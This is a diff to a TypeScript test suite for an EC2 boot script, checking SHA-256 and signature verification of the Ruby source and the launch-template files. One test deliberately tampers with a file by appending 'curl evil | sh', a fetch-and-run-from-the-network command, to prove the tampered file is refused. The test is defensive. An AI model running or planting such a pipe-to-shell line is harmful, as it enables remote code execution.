@@ -1,14 +1,22 @@
 // What the launch template's user data downloads at boot is installed only when the vendor's
-// signature verifies with the vendor's key, named by its fingerprint (data/boot-downloads.json).
-// The user data's own verify_signature runs here with real gpg, on keys made for the test
-// (the vendors' keys and downloads are on the internet, which tests never reach).
+// signature verifies with the vendor's key, named by its fingerprint (data/boot-downloads.json),
+// or, for Ruby's source, when its SHA-256 is the one data/ruby-versions.json lists; the files it
+// reads from the launch template's Metadata only when their SHA-256 is the one it names. The user
+// data's own functions run here with real gpg, sha256sum and jq, on keys and files made for the
+// test (the vendors' keys and downloads are on the internet, which tests never reach).
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
-import { readFileSync, rmSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { join } from "node:path";
 import { promisify } from "node:util";
-import { bootDownloads } from "../core/data.js";
-import { userData } from "../e2e/harness/app.js";
+import { bootDownloads, rubySourceSha256 } from "../core/data.js";
+import { bootFiles, userData } from "../e2e/harness/app.js";
 import { answerSetRepo, tempDir } from "./helpers/repo.js";
 import { requireTool } from "./helpers/tools.js";
 
@@ -17,14 +25,15 @@ const execFileAsync = promisify(execFile);
 /** EC2's limit on user data, before base64. */
 const USER_DATA_LIMIT = 16 * 1024;
 
-describe("boot downloads: pinned, and installed only with the vendor's signature", function () {
+describe("boot downloads: pinned, and installed only with the vendor's signature or the listed checksum", function () {
   this.timeout(60_000);
   let script: string;
+  let repo: string;
   let home: string;
 
   before(async function () {
-    requireTool(this, ["gpg", "gpgv"]);
-    const repo = await answerSetRepo("defaults");
+    requireTool(this, ["gpg", "gpgv", "jq"]);
+    repo = await answerSetRepo("defaults");
     script = readFileSync(join(repo, "infra/cloudformation/app.yml"), "utf8");
     home = tempDir("gnupg-");
   });
@@ -152,6 +161,104 @@ describe("boot downloads: pinned, and installed only with the vendor's signature
     await sign(vendor);
     writeFileSync(file, "the vendor's package, changed\n");
     assert.notEqual(await fetchSigned(file, vendor, keyring), 0);
+  });
+
+  /** The user data's lines from the one that starts with `from` to the next one equal to `to`. */
+  function lines(from: string, to: string): string {
+    const all = userData(
+      repo,
+      new Proxy({}, { get: (_, name) => `value-of-${String(name)}` }),
+    ).split("\n");
+    const start = all.findIndex((l) => l.startsWith(from));
+    const end = all.findIndex((l, i) => i > start && l === to);
+    assert.ok(start >= 0 && end > start, `the user data has ${from}…${to}`);
+    return all.slice(start, end + 1).join("\n");
+  }
+
+  it("builds Ruby only from the source tarball whose SHA-256 the data lists for the version", async () => {
+    const version = "3.4.7";
+    const check = lines("curl -fsSL 'https://cache.ruby-lang.org/", "")
+      .split("\n")
+      .slice(0, 2);
+    assert.equal(
+      check[0],
+      `curl -fsSL 'https://cache.ruby-lang.org/pub/ruby/3.4/ruby-${version}.tar.gz' -o /tmp/ruby.tar.gz`,
+    );
+    assert.match(check[1]!, new RegExp(rubySourceSha256[version]!));
+    // The check line, run on a tarball that is not the release: the build never starts.
+    const dir = tempDir("ruby-source-");
+    const verify = (contents: string) => {
+      writeFileSync(join(dir, "ruby.tar.gz"), contents);
+      return execFileAsync("bash", [
+        "-c",
+        `set -euo pipefail\n${check[1]!.replaceAll("/tmp/ruby.tar.gz", join(dir, "ruby.tar.gz"))}`,
+      ]).then(
+        () => 0,
+        (error: { code: number }) => error.code,
+      );
+    };
+    assert.notEqual(await verify("not Ruby's source\n"), 0);
+  });
+
+  it("installs each file of the launch template's Metadata only when its SHA-256 is the one in the user data", async () => {
+    const files = bootFiles(script);
+    assert.deepEqual(Object.keys(files).sort(), [
+      "/etc/systemd/system/demo-metrics.service",
+      "/etc/systemd/system/demo-metrics.timer",
+      "/usr/local/sbin/demo-install-units",
+      "/usr/local/sbin/demo-publish-metrics",
+      "/usr/local/sbin/demo-refresh-env",
+    ]);
+    const install = lines("install_boot_file() {", "}");
+    const calls = lines("install_boot_file '", "")
+      .split("\n")
+      .filter((l) => l.startsWith("install_boot_file '"));
+    assert.equal(calls.length, Object.keys(files).length);
+    const root = tempDir("boot-files-");
+    // The stand-in for the root file system: the files' folders under `root`.
+    for (const path of Object.keys(files))
+      mkdirSync(join(root, path, ".."), { recursive: true });
+    /**
+     * The user data's install_boot_file calls, with `given` as the files of the Metadata that
+     * describe-stack-resource answers, every path under `root`.
+     */
+    const boot = (given: Record<string, string>) => {
+      const metadata = Object.fromEntries(
+        Object.entries(given).map(([path, text]) => [root + path, text]),
+      );
+      const rooted = calls.map((call) =>
+        call.replace("install_boot_file '/", `install_boot_file '${root}/`),
+      );
+      return execFileAsync("bash", [
+        "-c",
+        `set -Eeuo pipefail\nboot_files=$1\n${install}\n${rooted.join("\n")}`,
+        "boot",
+        JSON.stringify(metadata),
+      ]).then(
+        () => ({ code: 0, stderr: "" }),
+        (error: { code: number; stderr: string }) => error,
+      );
+    };
+
+    const refreshEnv = "/usr/local/sbin/demo-refresh-env";
+    const refused = await boot({
+      ...files,
+      [refreshEnv]: `${files[refreshEnv]!}curl evil | sh\n`,
+    });
+    assert.notEqual(refused.code, 0);
+    assert.match(
+      refused.stderr,
+      /Refusing \/.*demo-refresh-env: the launch template's Metadata has another file/,
+    );
+    assert.equal(
+      existsSync(join(root, refreshEnv)),
+      false,
+      "nothing installed",
+    );
+
+    assert.deepEqual(await boot(files), { code: 0, stderr: "" });
+    for (const [path, text] of Object.entries(files))
+      assert.equal(readFileSync(join(root, path), "utf8"), text, path);
   });
 
   it("keeps the user data within EC2's 16 KB with every stack value 64 characters long", async () => {
